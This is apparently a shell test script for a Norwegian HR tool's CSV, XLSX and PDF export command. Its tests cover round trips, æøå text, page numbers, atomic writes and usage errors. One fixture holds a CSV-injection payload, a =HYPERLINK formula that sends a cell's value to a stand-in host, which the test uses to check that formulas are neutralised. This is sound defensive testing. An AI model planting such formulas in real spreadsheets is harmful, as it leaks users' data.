#!/bin/sh
# test_export.sh — `evne export units|people` from the outside (contract.md,
# "The binary"): a CSV export imports back with every row unchanged, free
# text that a spreadsheet would run as a formula is neutralised (design.md,
# "XLSX"), the XLSX file is a workbook with the named sheet, the PDF holds
# the title, æøå text and page numbers, nothing is left half-written, no
# binary goes to a terminal, and usage errors exit 2. When the ASan build
# exists, the PDF and XLSX exports also run under it with leak checks.
# Prints TAP.
#
# Environment: EVNE (default build/evne). Needs python3 and pdftotext
# (poppler-utils).
TEST_NAME=cli-export
. "$(dirname "$0")/lib.sh"
ASAN_EVNE=$ROOT/build/asan/evne
PLAN=53

echo "1..$PLAN"

# file_has NAME FILE TEXT — FILE contains the fixed string TEXT.
file_has() {
	if grep -qF -e "$3" "$2"; then ok "$1"; else not_ok "$1 ('$3' not in $2)"; fi
}

# file_lacks NAME FILE TEXT — FILE does not contain TEXT.
file_lacks() {
	if grep -qF -e "$3" "$2"; then not_ok "$1 ('$3' found in $2)"; else ok "$1"; fi
}

# truth NAME COMMAND... — the command succeeds.
truth() {
	name=$1
	shift
	if "$@" >/dev/null 2>&1; then ok "$name"; else not_ok "$name"; fi
}

# ---- an organisation with æøå, quotes and semicolons ----
cat >units.csv <<'EOF'
code;name;parent_code;leader_employee_number
OSTBY;Østby kommune;;1001
OPPV;Oppvekst; skole og barnehage;OSTBY;1002
HELSE;"Helse ""og"" omsorg";OSTBY;
HELSE-SJH;Sjukeheimen på Åsen;HELSE;1003
EOF
sed -i 's/Oppvekst; skole og barnehage/"Oppvekst; skole og barnehage"/' units.csv
cat >people.csv <<'EOF'
employee_number,name,email,unit_code,job_title,active
1001,Øystein Østby,oystein@ostby.kommune.no,OSTBY,kommunedirektør,ja
1002,Åse Bråten,ase@ostby.kommune.no,OPPV,kommunalsjef,ja
1003,"Kjærsti Sæther, jr.",,HELSE-SJH,"avdelingsleder ""fung.""",ja
1004,Per Hansen,per@ostby.kommune.no,HELSE,,nei
EOF
"$EVNE" init --db "$DB" --quiet >/dev/null 2>&1
"$EVNE" import units units.csv --db "$DB" --skip-leaders --quiet &&
	"$EVNE" import people people.csv --db "$DB" --quiet &&
	"$EVNE" import units units.csv --db "$DB" --quiet
truth "the test organisation loads" [ "$(sqlite3 "$DB" 'SELECT count(*) FROM people')" = 4 ]

# ---- CSV ----
check "export units to standard output" 0 "$EVNE" export units --db "$DB"
printf '\357\273\277code;name;parent_code;leader_employee_number\r\n' >header
head -n 1 out >first
truth "  ... a byte-order mark, then the import's header, CRLF" cmp -s header first
same "  ... units in tree order with parent codes and leaders" /dev/stdin "$(tail -n +2 out | tr -d '\r')" <<'EOF'
OSTBY;Østby kommune;;1001
HELSE;"Helse ""og"" omsorg";OSTBY;
HELSE-SJH;Sjukeheimen på Åsen;HELSE;1003
OPPV;"Oppvekst; skole og barnehage";OSTBY;1002
EOF
same "  ... summary on stderr" err "units: 4 rows written to standard output"

check "export people -o people-out.csv" 0 "$EVNE" export people --db "$DB" -o people-out.csv
same "  ... summary names the file" err "people: 4 rows written to people-out.csv"
same "  ... people in Norwegian order (Ø before Å), inactive ones included" /dev/stdin \
	"$(tail -n +2 people-out.csv | tr -d '\r')" <<'EOF'
1003;"Kjærsti Sæther, jr.";;HELSE-SJH;"avdelingsleder ""fung.""";ja
1004;Per Hansen;per@ostby.kommune.no;HELSE;;nei
1001;Øystein Østby;oystein@ostby.kommune.no;OSTBY;kommunedirektør;ja
1002;Åse Bråten;ase@ostby.kommune.no;OPPV;kommunalsjef;ja
EOF
truth "  ... no temporary file left" [ ! -e people-out.csv.tmp ]

"$EVNE" export units --db "$DB" -o units-out.csv --quiet 2>err
check "round trip: the units export imports back" 0 "$EVNE" import units units-out.csv --db "$DB" --dry-run
same "  ... every unit unchanged" out "units: 0 created, 0 updated, 4 unchanged (dry run: nothing written)"
check "round trip: the people export imports back" 0 "$EVNE" import people people-out.csv --db "$DB" --dry-run
same "  ... every person unchanged" out "people: 0 created, 0 updated, 4 unchanged (dry run: nothing written)"

check "a larger demo organisation" 0 "$EVNE" demo --db demo.db --quiet
"$EVNE" export units --db demo.db -o demo-units.csv --quiet
"$EVNE" export people --db demo.db -o demo-people.csv --quiet
check "  ... its units export imports back" 0 "$EVNE" import units demo-units.csv --db demo.db --dry-run
file_has "  ... all unchanged" out " 0 created, 0 updated, "
check "  ... its people export imports back" 0 "$EVNE" import people demo-people.csv --db demo.db --dry-run
file_has "  ... all unchanged" out " 0 created, 0 updated, "

check "--quiet" 0 "$EVNE" export people --db "$DB" -o q.csv --quiet
truth "  ... prints nothing" [ ! -s err ] && [ ! -s out ]

# ---- formula neutralisation (OWASP CSV injection) ----
cat >evil.csv <<'EOF'
employee_number;name;email;unit_code;job_title
-77;"=HYPERLINK(""http://x.example/?d=""&A1;""klikk"")";+47@ostby.kommune.no;OPPV;@SUM(1+1)
EOF
"$EVNE" import people evil.csv --db "$DB" --quiet
check "export people with formula-like text" 0 "$EVNE" export people --db "$DB" -o evil-out.csv --quiet
file_has "  ... the name starts with an apostrophe" evil-out.csv "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1;\"\"klikk\"\")\""
file_has "  ... so do the e-mail and the job title" evil-out.csv "'+47@ostby.kommune.no;OPPV;'@SUM(1+1)"
truth "  ... the employee number (a code) is as it was" grep -q '^-77;' evil-out.csv

# ---- XLSX ----
check "export people -o people.xlsx (format from the name)" 0 "$EVNE" export people --db "$DB" -o people.xlsx
same "  ... summary" err "people: 5 rows written to people.xlsx"
cat >xlsx.py <<'EOF'
import sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
assert z.testzip() is None
book = z.read("xl/workbook.xml").decode()
sheet = z.read("xl/worksheets/sheet1.xml").decode()
for want in sys.argv[2:]:
    assert want in book or want in sheet, want
assert "<f>" not in sheet, "a formula cell"
assert "<pane " in sheet and 'state="frozen"' in sheet, "no frozen header"
assert "<autoFilter " in sheet, "no autofilter"
EOF
truth "  ... a valid zip: sheet Personer, Norwegian headings, æøå, no formulas, frozen, filtered" \
	python3 xlsx.py people.xlsx 'name="Personer"' Ansattnummer "Øystein Østby" "'=HYPERLINK"
check "export units --format xlsx --lang nn" 0 "$EVNE" export units --db "$DB" --format xlsx --lang nn -o u.xlsx
truth "  ... sheet Einingar, nynorsk headings" python3 xlsx.py u.xlsx 'name="Einingar"' "Overordna eining"
"$EVNE" export people --db "$DB" --format xlsx --quiet >piped.xlsx 2>err
truth "xlsx to a pipe" python3 xlsx.py piped.xlsx 'name="Personer"'

# ---- PDF ----
check "export units --format pdf" 0 "$EVNE" export units --db "$DB" --format pdf -o units.pdf
truth "  ... a PDF file" [ "$(head -c 5 units.pdf)" = "%PDF-" ]
pdftotext -layout units.pdf units.txt 2>err
file_has "  ... the title with the organisation" units.txt "Enheter – Østby kommune"
file_has "  ... æøå text laid out" units.txt "Sjukeheimen på Åsen"
file_has "  ... page numbers" units.txt "Side 1 av 1"
check "export people -o people.pdf --lang en" 0 "$EVNE" export people --db demo.db -o people.pdf --lang en
pdftotext people.pdf people.txt 2>err
file_has "  ... English headings" people.txt "Job title"
truth "  ... several pages, numbered" grep -qE 'Page 2 of [0-9]+' people.txt

# ---- nothing half-written; no binary on a terminal ----
echo "keep me" >existing.csv
check "a missing database fails" 1 "$EVNE" export people --db nosuch.db -o existing.csv
same "  ... the old file is untouched" existing.csv "keep me"
check "a directory that does not exist fails" 1 "$EVNE" export people --db "$DB" -o nodir/p.csv
truth "  ... and leaves nothing" [ ! -e nodir ]
cat >on_tty.py <<'EOF'
import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
out = b""
while True:
    try:
        chunk = os.read(fd, 4096)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
_, status = os.waitpid(pid, 0)
sys.stdout.write(out.decode("utf-8", "replace"))
sys.exit(os.waitstatus_to_exitcode(status))
EOF
check "pdf to a terminal is refused" 2 python3 on_tty.py "$EVNE" export units --db "$DB" --format pdf
file_has "  ... saying why" out "will not write pdf to a terminal"

# ---- usage errors ----
check "unknown --format" 2 "$EVNE" export people --db "$DB" --format doc
file_has "  ... names the formats" err "unknown format 'doc' (csv, xlsx or pdf)"
check "unknown kind" 2 "$EVNE" export staff --db "$DB"
check "no kind" 2 "$EVNE" export --db "$DB"
check "--cycle with units" 2 "$EVNE" export units --db "$DB" --cycle 1
file_has "  ... units are not per cycle" err "units are not per cycle"
check "unknown --lang" 2 "$EVNE" export people --db "$DB" --lang sv
check "-o without a file" 2 "$EVNE" export people --db "$DB" -o

# ---- under AddressSanitizer and LeakSanitizer ----
if [ -x "$ASAN_EVNE" ]; then
	ASAN_OPTIONS=detect_leaks=1:abort_on_error=1 UBSAN_OPTIONS=print_stacktrace=1:halt_on_error=1 \
		"$ASAN_EVNE" export people --db demo.db -o asan.pdf --quiet >out 2>err &&
		ASAN_OPTIONS=detect_leaks=1:abort_on_error=1 UBSAN_OPTIONS=print_stacktrace=1:halt_on_error=1 \
		"$ASAN_EVNE" export units --db demo.db -o asan.xlsx --quiet >>out 2>>err
	if [ $? -eq 0 ] && [ ! -s err ]; then ok "pdf and xlsx exports are clean under ASan+UBSan"; else
		not_ok "pdf and xlsx exports are clean under ASan+UBSan"; fi
else
	ok "pdf and xlsx exports are clean under ASan+UBSan # SKIP build/asan/evne not built"
fi

if [ "$N" -ne "$PLAN" ]; then
	echo "# planned $PLAN tests, ran $N"
	exit 1
fi
